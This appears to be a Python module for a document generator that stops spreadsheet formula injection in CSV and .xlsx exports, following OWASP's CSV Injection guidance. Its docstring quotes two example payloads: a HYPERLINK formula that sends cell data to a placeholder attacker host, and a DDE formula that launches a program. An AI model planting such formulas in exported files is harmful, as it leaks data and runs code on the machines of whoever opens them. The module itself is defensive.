"""Text that a spreadsheet would run as a formula, and exports that never let it (issue 20).

Excel, LibreOffice Calc and Google Sheets read a cell whose text begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return as a formula: a member named
``=HYPERLINK("http://evil.example/?leak="&C5,"…")`` in an exported list sends the sheet's
data away when the list is opened, ``=cmd|' /C calc'!A0`` runs a program through DDE.
docgen never writes a formula: :func:`text_only` makes every formula cell of a workbook it
wrote a text cell, :func:`csv_field` neutralises a CSV field, and :func:`runs_as_formula`
tells ``docgen check`` which values to warn about.
"""

from __future__ import annotations

from typing import Any

__all__ = ["FORMULA_START", "csv_field", "runs_as_formula", "text_only"]

#: What makes a spreadsheet read a cell as a formula (OWASP, CSV Injection:
#: https://owasp.org/www-community/attacks/CSV_Injection): equals, plus, minus, at, tab
#: (0x09), carriage return (0x0D).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def runs_as_formula(value: Any) -> bool:
    """Whether ``value`` is text a spreadsheet would read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


# OWASP's CSV Injection page (https://owasp.org/www-community/attacks/CSV_Injection),
# followed as it says: no cell may begin with = + - @ tab or carriage return, so such a
# field gets a single quote in front; and every field is wrapped in double quotes with its
# own double quotes doubled (the csv module's QUOTE_ALL), so a separator or a quote inside
# a field (OWASP's example ``=1+2";=1+2``) can never start a new cell that begins with a
# formula, whatever separator the spreadsheet's locale uses (the writer's part:
# ``csv.writer(..., quoting=csv.QUOTE_ALL)``). Fields that cannot run (dates, numbers,
# digests) keep their text: a quote in front of every field would show in Excel.


def csv_field(value: Any) -> Any:
    """A CSV field that no spreadsheet runs: text beginning like a formula gets ``'``."""
    return "'" + value if runs_as_formula(value) else value


def text_only(sheet: Any) -> None:
    """Every formula cell of an openpyxl worksheet made a text cell.

    openpyxl stores a ``str`` beginning with ``=`` as a formula (``data_type "f"``);
    docgen writes names, titles and notes, never formulas, so each such cell is written
    as the text it is (other leading characters are already text in .xlsx).
    """
    for row in sheet.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"
